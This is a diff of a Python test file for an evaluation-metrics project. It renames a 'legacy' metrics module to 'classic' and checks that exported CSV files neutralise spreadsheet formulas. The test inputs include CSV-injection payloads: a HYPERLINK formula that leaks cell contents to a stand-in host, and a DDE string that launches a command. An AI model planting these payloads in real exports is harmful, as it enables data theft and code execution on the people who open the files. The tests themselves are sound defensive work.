@@ -18,7 +18,7 @@ from theval_mesh.pure.scoring.tables import read_raw_csv
 from theval_mesh.pure.study_plan import Pair
 from theval_mesh.stores.study_store import StudyStore
 from theval_mesh.studies.alignment_files import read_human, read_scores
-from theval_mesh.studies.legacy_metrics import LegacyRow, LegacyRun, write_outputs
+from theval_mesh.studies.classic_metrics import ClassicRow, ClassicRun, write_outputs
 
 LINK = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
 NAMES = [LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23", "-2+3", "\t=1+1", "\r=1", "'=x", "''@y", "plain"]
@@ -96,8 +96,8 @@ def test_alignment_csv_holds_no_formula(tmp_path, capsys):
     assert f"'{LINK}" in cells(tmp_path / "alignment.csv")
 
 
-def test_the_legacy_files_hold_no_formula(tmp_path):
-    run = LegacyRun([LegacyRow("@m", f"{LINK}.mp4", "gt.mp4")], [{"Model": "@m", "x": -0.5}], [])
+def test_the_classic_files_hold_no_formula(tmp_path):
+    run = ClassicRun([ClassicRow("@m", f"{LINK}.mp4", "gt.mp4")], [{"Model": "@m", "x": -0.5}], [])
     videos, summary = write_outputs(run, tmp_path)
     assert_no_formula(videos)
     assert_no_formula(summary)
